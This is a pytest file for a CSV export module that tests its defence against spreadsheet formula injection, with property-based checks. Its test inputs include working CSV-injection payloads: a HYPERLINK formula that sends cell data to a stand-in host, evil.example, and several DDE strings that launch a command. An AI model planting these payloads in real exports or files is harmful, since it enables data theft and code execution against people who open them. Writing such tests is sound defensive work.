"""Safe tabular export: no cell a spreadsheet would run as a formula, numbers still numbers, CSV exact."""

from __future__ import annotations

import csv
import doctest
import io
from decimal import Decimal

import pytest
from hypothesis import given
from hypothesis import strategies as st

import leadpact.core.tabular as tabular
from leadpact.core.tabular import FORMULA_STARTS, cell_text, tabular_csv


def read(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def test_docstring_examples():
    assert doctest.testmod(tabular).failed == 0


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("https://evil.example/?"&A1,"Click")',
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        "＝1+1",  # full-width equals sign
    ],
)
def test_formulas_are_written_as_text(text):
    assert cell_text(text) == "'" + text
    assert read(tabular_csv(["x"], [[text]]))[1] == ["'" + text]


@pytest.mark.parametrize("value", ["-12.5", "+3", "1E+5", "-0.000001", ".5", Decimal("-7.25"), -3, 2.5])
def test_numbers_stay_numbers(value):
    assert cell_text(value) == str(value)


def test_rows_by_name_or_in_order_and_a_missing_name_is_empty():
    text = tabular_csv(["a", "b"], [{"b": "=1", "a": 'say "hi", twice'}, ["x", None]])
    assert read(text) == [["a", "b"], ['say "hi", twice', "'=1"], ["x", ""]]


@given(st.text())
def test_no_cell_starts_a_formula_and_the_text_is_kept(text):
    got = cell_text(text)
    assert got in (text, "'" + text)
    risky = bool(text) and text[0] in FORMULA_STARTS
    assert (got != text) == (risky and not tabular._NUMBER.fullmatch(text))
    if got and got[0] in FORMULA_STARTS:  # only a plain number may start with a sign
        assert tabular._NUMBER.fullmatch(got)
    assert read(tabular_csv(["x"], [[text]])) == [["x"], [got]]  # the CSV gives back exactly the cell
